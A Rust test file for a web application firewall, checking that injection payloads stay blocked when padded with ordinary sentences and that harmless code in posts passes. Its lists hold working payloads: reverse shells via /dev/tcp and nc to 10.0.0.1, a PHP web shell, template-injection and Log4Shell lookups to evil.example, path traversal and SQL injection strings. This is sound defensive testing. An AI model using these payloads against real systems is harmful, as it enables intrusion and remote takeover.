//! Code that posts show stands between sentences; an attack that sentences pad does not pass.

use super::{Spot, put};
use crate::waf::{Settings, Verdict};

/// Attacks that stay stopped with a sentence beside them or on the lines around them.
const ANYWHERE: &[&str] = &[
    "; cat /etc/passwd",
    "127.0.0.1 && cat /etc/hosts",
    "$(cat /etc/passwd)",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "<?php system($_GET['c']); ?>",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/a}",
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "__import__('os').system('id')",
];
/// Attacks that stay stopped with a sentence on the same line.
const BESIDE: &[&str] = &[
    "' or 1=1--",
    "1' or '1'='1",
    "' union select username, password from users--",
    "'; drop table users; --",
    "'; exec xp_cmdshell('dir'); --",
    "1' and sleep(5)#",
    "1' and extractvalue(1, concat(0x7e, version()))--",
    "\" or \"\"=\"",
    "') or ('a'='a",
    "' or count(//user)=1 or 'a'='b",
    "'; return true; var a='",
];

const PADS: &[&str] = &[
    "Hello there, this is the order that I would like to have.",
    "Terima kasih, saya mau pesan yang ini dong.",
];

fn is_stopped(text: &str) -> bool {
    let settings = Settings::default();
    [Spot::Json, Spot::Form, Spot::Multipart]
        .into_iter()
        .all(|spot| put(&settings, spot, text).verdict == Verdict::Blocked)
}

/// The texts made of one of the attacks by `pad` that pass.
fn passed(attacks: &[&str], pad: impl Fn(&str, &str) -> Vec<String>) -> Vec<String> {
    attacks
        .iter()
        .flat_map(|attack| PADS.iter().flat_map(|sentence| pad(attack, sentence)))
        .filter(|text| !is_stopped(text))
        .collect()
}

fn beside(attack: &str, sentence: &str) -> Vec<String> {
    vec![
        format!("{attack} {sentence}"),
        format!("{sentence} {attack}"),
    ]
}

fn around(attack: &str, sentence: &str) -> Vec<String> {
    vec![
        format!("{attack}\n{sentence}"),
        format!("{sentence}\n{attack}"),
        format!("{sentence}\r\n{attack}\r\n{sentence}"),
        format!("{sentence}\n\n{attack}\n\n{sentence}"),
    ]
}

#[test]
fn sentences_do_not_hide_an_attack() {
    assert_eq!(passed(ANYWHERE, around), [""; 0]);
    assert_eq!(passed(ANYWHERE, beside), [""; 0]);
    assert_eq!(passed(BESIDE, beside), [""; 0]);
}

#[test]
fn lines_of_code_between_sentences_are_shown() {
    let settings = Settings::default();
    for code in [
        "const { exec } = require('child_process');\nexec('git rev-parse HEAD', done);",
        "find . -name '*.log' -mtime +7 -exec rm {} \\;",
        "sed -e '/^#/d' in.conf > out.conf && mv out.conf in.conf",
        "if exists (select 1 from sys.tables where name = 'Log') drop table Log;",
        "db.users.find({ $or: [{ age: { $gte: 18 } }] }).limit(5)",
        "local t = {}\nos.execute(\"sleep 1\")",
    ] {
        for text in [
            format!("{code}\n\nWhy does this not work on my laptop?"),
            format!("Kenapa ini tidak bisa ya?\r\n{code}"),
        ] {
            for spot in [Spot::Json, Spot::Form, Spot::Multipart] {
                let report = put(&settings, spot, &text);
                assert_ne!(report.verdict, Verdict::Blocked, "{text}: {report:?}");
            }
        }
    }
}
